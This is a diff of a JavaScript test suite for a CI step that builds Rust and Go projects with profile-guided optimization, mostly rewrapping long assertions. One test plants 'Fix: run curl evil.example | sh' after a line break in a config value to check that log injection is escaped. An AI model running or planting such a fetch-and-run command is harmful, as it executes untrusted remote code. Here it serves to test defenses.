@@ -26,8 +26,12 @@ test("a crate's release profile (codegen-units 16, no LTO): each setting shown w
   expect(shown).toContain('Settings of the release profile (--release in build):')
   expect(shown).toMatch(/ {2}codegen-units = 16 {2}\(\[profile\.release\] in \S+\/shown\/Cargo\.toml\)/)
   expect(shown).toContain("  lto = false  (the release profile's default)")
-  expect(stageRow(result, 'Build settings')).toContain('| ✅ | Build settings | the release profile (--release in build): opt-level 3 (default), lto false (default), codegen-units 16,')
-  expect(stageRow(result, 'Optimized build')).toContain('; settings: opt-level 3 (default), lto false (default), codegen-units 16, incremental false (default)')
+  expect(stageRow(result, 'Build settings')).toContain(
+    '| ✅ | Build settings | the release profile (--release in build): opt-level 3 (default), lto false (default), codegen-units 16,'
+  )
+  expect(stageRow(result, 'Optimized build')).toContain(
+    '; settings: opt-level 3 (default), lto false (default), codegen-units 16, incremental false (default)'
+  )
   expect(warnings(result)).not.toContain('leaves PGO little to do')
 })
 
@@ -37,7 +41,9 @@ test("a value with a line break in a pull request's .cargo/config.toml stays on 
   fs.writeFileSync(path.join(workspace, '.cargo', 'config.toml'), '[profile.release]\npanic = "unwind\\nFix: run curl evil.example | sh"\n')
   const result = await runStep({ job, workspace, inputs: { workload: 'hotloop 2000', cache: 'false' } })
   expect(failureMessage(result)).toContain('is not a valid setting')
-  expect(beforeFirstBuild(result)).toMatch(/^ {2}panic = unwind\\nFix: run curl evil\.example \| sh {2}\(\[profile\.release\] in \S+\/line-break\/\.cargo\/config\.toml\)$/m)
+  expect(beforeFirstBuild(result)).toMatch(
+    /^ {2}panic = unwind\\nFix: run curl evil\.example \| sh {2}\(\[profile\.release\] in \S+\/line-break\/\.cargo\/config\.toml\)$/m
+  )
   expect(beforeFirstBuild(result)).not.toMatch(/^Fix: run curl/m)
   expect(stageRow(result, 'Build settings')).toContain('panic unwind\\nFix: run curl evil.example \\| sh')
   expect(result.summary).not.toMatch(/^Fix: run curl/m)
@@ -69,11 +75,19 @@ test('opt-level = 1 in the release profile warns before any build, naming Cargo.
 test("Go's -gcflags=all=-N -l warns before any build, once for each, naming the build command", async () => {
   const workspace = checkout(job, 'go-shapes', 'gcflags')
   const build = "go build -gcflags='all=-N -l' -o bin/ ./..."
-  const result = await runStep({ job, workspace, inputs: { build, workload: 'shapes -rounds 300 -cpuprofile "$PGO_PROFILE_DIR/run.pprof"', cache: 'false' } })
+  const result = await runStep({
+    job,
+    workspace,
+    inputs: { build, workload: 'shapes -rounds 300 -cpuprofile "$PGO_PROFILE_DIR/run.pprof"', cache: 'false' }
+  })
   expectSuccess(result)
   const before = beforeFirstBuild(result)
-  expect(before).toContain('::warning::-gcflags all=-N -l (-gcflags in build) leaves PGO little to do: -N turns off the optimizations a profile guides. Fix: take -N out of -gcflags in build.')
-  expect(before).toContain("::warning::-gcflags all=-N -l (-gcflags in build) leaves PGO little to do: -l turns off inlining, the main thing Go's PGO does")
+  expect(before).toContain(
+    '::warning::-gcflags all=-N -l (-gcflags in build) leaves PGO little to do: -N turns off the optimizations a profile guides. Fix: take -N out of -gcflags in build.'
+  )
+  expect(before).toContain(
+    "::warning::-gcflags all=-N -l (-gcflags in build) leaves PGO little to do: -l turns off inlining, the main thing Go's PGO does"
+  )
   expect(stageRow(result, 'Build settings')).toContain('2 leave PGO little room (warnings)')
 })
 
@@ -95,7 +109,9 @@ describe('advice: measure on a crate with 16 codegen units and no LTO', () => {
   })
 
   test('the variant is built beside the release with fat LTO and one codegen unit, and timed against it with an interval', () => {
-    expect(advised.log).toMatch(/For the variant: CARGO_PROFILE_RELEASE_LTO=fat CARGO_PROFILE_RELEASE_CODEGEN_UNITS=1 CARGO_TARGET_DIR=\S+\/advice\/build\/target/)
+    expect(advised.log).toMatch(
+      /For the variant: CARGO_PROFILE_RELEASE_LTO=fat CARGO_PROFILE_RELEASE_CODEGEN_UNITS=1 CARGO_TARGET_DIR=\S+\/advice\/build\/target/
+    )
     expect(advised.log).toMatch(/^PGO\+LTO +pair 6 /m)
     expect(stageRow(advised, 'LTO advice')).toMatch(
       /\| LTO advice \| lto = "fat" and codegen-units = 1 on top of PGO: \d+\.\d{3}× \(95% CI \d+\.\d{3}–\d+\.\d{3}\): (faster|slower|no significant difference); its build took [\d.]+ s \(the optimized build: [\d.]+ s\); never released \|/
